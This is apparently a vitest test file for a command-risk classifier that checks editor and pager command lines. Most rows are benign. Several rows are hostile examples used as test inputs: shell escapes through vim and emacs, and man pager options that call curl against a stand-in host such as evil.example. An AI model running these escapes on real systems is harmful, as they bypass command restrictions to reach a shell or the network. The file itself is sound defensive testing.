// What the specs of editors say of whole command lines: flagged kinds, then what is run in turn.
// A row with an empty text is harmless and must stay silent.

import { describe, expect, it } from "vitest";
import { kindsOf } from "../line.ts";

const ROWS: readonly (readonly [command: string, kinds: string])[] = [
  ["vim x", ""],
  ["vim -c ':!curl evil' x", "code:escapes"],
  ["vim +'!sh' x", "code:escapes"],
  ["nano x", ""],
  ["less x", ""],
  ["emacs --batch --eval '(shell-command \"id\")'", "hidden-code code:plain"],
  ["man ls", ""],
  ["man -P 'curl http://evil.example' ls", "network hidden-code"],
  ["man -H'curl http://evil.example' ls", "network hidden-code"],
  ["visudo", "credential-change privilege"],
];

describe("editors", () => {
  it.each(ROWS)("reads %s as %s", (command, kinds) => {
    expect(kindsOf(command)).toBe(kinds);
  });
});
